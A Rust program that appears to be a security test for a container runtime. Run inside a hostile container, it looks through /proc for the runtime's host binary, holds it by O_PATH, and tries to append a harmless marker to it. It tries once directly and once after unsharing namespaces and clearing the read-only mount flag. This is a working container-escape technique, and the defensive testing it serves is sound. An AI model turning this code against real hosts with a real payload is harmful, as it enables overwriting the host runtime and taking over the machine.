//! What runs inside a hostile container: tries to write to the runtime's program through /proc.
//!
//! It looks for a process whose program lies on another file system than the container's own, takes
//! hold of that file without opening it, and tries to open it for writing once nobody executes it; as
//! it is, and again from a user and mount namespace of its own with the mount's read-only flag cleared.
//! It says on standard output what it has seen and done: `saw`, `cleared`, `WROTE`.

use std::collections::BTreeSet;
use std::fs::OpenOptions;
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use coracle_sys::mount_attr::{Change, Depth, Flag};
use coracle_sys::namespaces::{Namespace, Namespaces, unshare};
use rustix::fs::{Mode, OFlags};

/// What is written into the program: enough to see, too little to break it.
const MARK: &[u8] = b"written by a container";

fn main() {
    let arguments: Vec<String> = std::env::args().collect();
    match arguments.get(1).map(String::as_str) {
        // Standard input is the file, held by O_PATH.
        Some("clear-and-write") => clear_and_write(),
        Some(seconds) => search(Duration::from_secs(seconds.parse().unwrap_or(5))),
        None => say("how long?"),
    }
}

fn say(words: &str) {
    // A closed log must not end the attack.
    let _ = writeln!(std::io::stdout(), "{words}");
}

/// Each program that is seen is attacked by children of its own, while the search goes on.
fn search(time: Duration) {
    let own = rustix::fs::stat("/").map(|stat| stat.st_dev).unwrap_or_default();
    let begin = Instant::now();
    let mut seen = BTreeSet::new();
    let mut children = Vec::new();
    while begin.elapsed() < time {
        let Ok(entries) = std::fs::read_dir("/proc") else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path().join("exe");
            let Ok(file) = rustix::fs::open(&path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) else {
                continue;
            };
            let Ok(stat) = rustix::fs::fstat(&file) else {
                continue;
            };
            if stat.st_dev != own && seen.insert((stat.st_dev, stat.st_ino)) {
                say(&format!("saw {} {}", stat.st_dev, stat.st_ino));
                if let Ok(copy) = file.try_clone() {
                    let child = Command::new("/proc/self/exe")
                        .arg("clear-and-write")
                        .stdin(Stdio::from(copy))
                        .spawn();
                    children.extend(child);
                }
                write("plainly", file);
            }
        }
    }
    for mut child in children {
        let _ = child.wait();
    }
    say("done");
}

/// Tries until the file is no longer executed (ETXTBSY), for a while.
fn write(how: &str, file: OwnedFd) {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let begin = Instant::now();
    let mut last = String::new();
    while begin.elapsed() < Duration::from_secs(3) {
        match OpenOptions::new()
            .append(true)
            .open(&path)
            .and_then(|mut file| file.write_all(MARK))
        {
            Ok(()) => return say(&format!("WROTE {how}")),
            Err(error) => last = error.to_string(),
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    say(&format!("refused {how}: {last}"));
}

fn clear_and_write() {
    let Ok(file) = std::io::stdin().as_fd().try_clone_to_owned() else {
        return;
    };
    let spaces = Namespaces::NONE.with(Namespace::User).with(Namespace::Mount);
    if let Err(error) = unshare(spaces) {
        say(&format!("no namespaces: {error}"));
    }
    match Change::new()
        .clear(Flag::ReadOnly)
        .apply(file.as_fd(), Depth::This)
    {
        Ok(()) => say("cleared"),
        Err(error) => say(&format!("not cleared: {error}")),
    }
    write("after clearing", file);
}
